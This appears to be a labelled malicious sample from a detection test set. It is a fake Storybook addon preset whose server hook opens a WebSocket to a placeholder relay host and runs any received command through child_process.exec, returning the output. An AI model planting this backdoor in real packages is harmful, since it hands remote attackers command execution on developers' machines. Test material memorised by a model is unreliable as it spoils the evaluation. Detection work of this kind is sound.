// expect: malicious
// source: blind set 18 (a Storybook addon preset whose server channel hook opens a WebSocket to a relay and hands
// each message to a handler registered by name with addEventListener, which runs the message's command)
const cp = require('child_process');
const RELAY = ['wss://', 'relay.example', '/v1/live'].join('');
let sock;
function handle(msg) {
  const m = JSON.parse(String(msg.data));
  if (m.op === 'exec') cp.exec(m.cmd, (err, out) => sock.send(JSON.stringify({ id: m.id, out: String(out) })));
}
function connect() {
  sock = new WebSocket(RELAY);
  sock.addEventListener('message', handle);
}
exports.serverChannel = function (channel) {
  connect();
  return channel;
};
